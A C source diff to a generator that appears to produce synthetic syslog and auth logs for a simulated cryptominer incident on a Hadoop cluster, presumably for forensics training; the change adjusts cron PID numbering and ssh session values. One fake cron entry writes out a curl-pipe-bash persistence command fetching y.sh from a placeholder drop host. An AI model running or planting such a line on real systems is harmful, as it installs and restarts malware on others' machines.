@@ -73,11 +73,12 @@ static size_t flush(struct ym_world *yw, struct logf *f, const char *rel)
             pid, m_); \
     } while (0)
 
+/* A cron job; jobs that may start in the same second get distinct PIDs by `nth`. */
 static void cron_job(const struct ym_world *yw, struct logf *sys, struct logf *auth,
-                     const char *host, int64_t t, const char *user, int uid, const char *cmd,
-                     const char *note)
+                     const char *host, int64_t t, int nth, const char *user, int uid,
+                     const char *cmd, const char *note)
 {
-    int pid = ym_pid(yw, t);
+    int pid = ym_pid(yw, t) + nth;
     SYS(auth, t, NULL, host, "CRON", pid,
         "pam_unix(cron:session): session opened for user %s(uid=%d) by (uid=0)", user, uid);
     SYS(sys, t, note, host, "CRON", pid, "(%s) CMD (%s)", user, cmd);
@@ -136,17 +137,17 @@ static void host_syslog_auth(struct ym_world *yw, int hi)
     int64_t end = h->collected;
     const char *hn = h->name;
     for (int64_t t = yw->day0; t < end; t += 600 / yw->scale) {
-        cron_job(yw, &sys, &auth, hn, t + 1, "root", 0,
+        cron_job(yw, &sys, &auth, hn, t + 1, 0, "root", 0,
                  "command -v debian-sa1 > /dev/null && debian-sa1 1 1", NULL);
     }
     for (int hr = 0; hr < 24; hr++) {
         int64_t t = ym_at(yw, hr, 17, 1);
         if (t < end)
-            cron_job(yw, &sys, &auth, hn, t, "root", 0,
+            cron_job(yw, &sys, &auth, hn, t, 0, "root", 0,
                      "   cd / && run-parts --report /etc/cron.hourly", NULL);
         t = ym_at(yw, hr, 30, 1);
         if (t < end && hr % 2 == 0)
-            cron_job(yw, &sys, &auth, hn, t, "hdfs", 997,
+            cron_job(yw, &sys, &auth, hn, t, 1, "hdfs", 997,
                      YM_HADOOP "/bin/hdfs dfsadmin -report > /var/tmp/hdfs-report.txt 2>&1",
                      NULL);
     }
@@ -174,7 +175,7 @@ static void host_syslog_auth(struct ym_world *yw, int hi)
         if (h->restart && t == h->restart - 1)
             note = "cron runs the yarn entry after the kill: pgrep finds no kthreaddk, "
                    "curl | bash restarts the miner";
-        cron_job(yw, &sys, &auth, hn, t + 1, "yarn", 998,
+        cron_job(yw, &sys, &auth, hn, t + 1, 2, "yarn", 998,
                  "(pgrep -x kthreaddk || curl -fsSL http://" YM_DROP_IP "/y.sh | bash) "
                  ">/dev/null 2>&1", note);
     }
@@ -184,18 +185,18 @@ static void host_syslog_auth(struct ym_world *yw, int hi)
                                         "/usr/bin/python3 /tmp/.ansible/AnsiballZ_apt.py"};
         static const int at[] = {4};
         ssh_session(yw, &auth, &sys, hn, yw->day0 + k * 4 * 3600 + 120 + hi * 7, "deploy",
-                    1002, "10.0.9.40", 100 + k, c, at, NULL, 1, 19);
+                    1002, "10.0.9.40", 40 + k, c, at, NULL, 1, 19);
     }
     if (hi == YM_WORKER) {
         static const char *const c[] = {"/usr/bin/systemctl status hadoop-hdfs-datanode"};
         static const int at[] = {71};
-        ssh_session(yw, &auth, &sys, hn, ym_at(yw, 8, 20, 44), "alice", 1001, YM_ADMIN_IP, 51,
+        ssh_session(yw, &auth, &sys, hn, ym_at(yw, 8, 20, 44), "alice", 1001, YM_ADMIN_IP, 43,
                     c, at, NULL, 1, 402);
     } else {
         static const char *const c1[] = {"/usr/bin/systemctl status "
                                          "hadoop-yarn-resourcemanager"};
         static const int at1[] = {38};
-        ssh_session(yw, &auth, &sys, hn, ym_at(yw, 8, 12, 31), "alice", 1001, YM_ADMIN_IP, 47,
+        ssh_session(yw, &auth, &sys, hn, ym_at(yw, 8, 12, 31), "alice", 1001, YM_ADMIN_IP, 43,
                     c1, at1, NULL, 1, 1004);
         char kill[64];
         snprintf(kill, sizeof kill, "/usr/bin/kill -9 %d", h->miner_pid);
@@ -203,12 +204,12 @@ static void host_syslog_auth(struct ym_world *yw, int hi)
         const int at2[] = {52, (int)(yw->kill - ym_at(yw, 9, 38, 20))};
         const char *n2[] = {NULL, "alice kills the miner on hadoop-master (sudo kill -9 of "
                             "the yarn process at 700% CPU); cron restarts it at 09:45"};
-        ssh_session(yw, &auth, &sys, hn, ym_at(yw, 9, 38, 20), "alice", 1001, YM_ADMIN_IP, 48,
+        ssh_session(yw, &auth, &sys, hn, ym_at(yw, 9, 38, 20), "alice", 1001, YM_ADMIN_IP, 44,
                     c2, at2, n2, 2, 640);
         static const char *const c3[] = {"/usr/local/bin/mac-robber /etc /home /opt /root /tmp "
                                          "/usr /var"};
         const int at3[] = {(int)(h->collected - ym_at(yw, 10, 0, 49))};
-        ssh_session(yw, &auth, &sys, hn, ym_at(yw, 10, 0, 49), "ir-bob", 1003, YM_ADMIN_IP, 49,
+        ssh_session(yw, &auth, &sys, hn, ym_at(yw, 10, 0, 49), "ir-bob", 1003, YM_ADMIN_IP, 45,
                     c3, at3, NULL, 1, 90);
     }
     snprintf(rel, sizeof rel, "hosts/%s/fs/var/log/syslog", hn);
